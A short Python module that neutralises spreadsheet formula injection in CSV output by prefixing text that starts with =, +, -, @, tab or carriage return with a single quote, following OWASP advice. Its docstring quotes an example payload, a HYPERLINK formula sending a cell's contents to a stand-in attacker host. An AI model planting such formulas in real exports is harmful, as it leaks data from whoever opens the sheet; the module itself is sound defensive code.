"""Cells for CSV files a person opens in a spreadsheet: text can never become a formula.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``= + - @`` (and, in some,
after a leading tab or carriage return) as a formula, so a player named
``=HYPERLINK("http://evil.example/?x="&A1,"x")`` would run in the auditor's sheet. OWASP's
advice is to prefix such text with a single quote, which spreadsheets show as text.
Only text is touched: numbers stay numbers, so an amount of -500 is still summed.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """``value`` as it may go into a CSV cell: text that a spreadsheet would run gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
